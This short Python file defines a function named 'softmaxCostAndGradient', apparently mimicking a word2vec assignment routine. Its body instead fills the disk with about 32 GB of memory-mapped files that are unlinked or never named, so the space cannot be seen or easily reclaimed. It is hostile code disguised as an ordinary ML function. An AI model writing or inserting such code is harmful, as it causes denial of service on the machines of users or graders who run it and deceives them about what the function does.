# Fills the disk with files that are deleted while they are open, or mapped, or never had a name.
import mmap
import os


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    for number in range(1000):
        try:
            file = os.open(".", os.O_TMPFILE | os.O_RDWR)
        except OSError:
            file = os.open(f"large{number}", os.O_CREAT | os.O_RDWR)
            os.unlink(f"large{number}")
        os.ftruncate(file, 2**25)
        block = mmap.mmap(file, 2**25)
        os.close(file)
        for page in range(0, 2**25, 4096):
            block[page] = 1
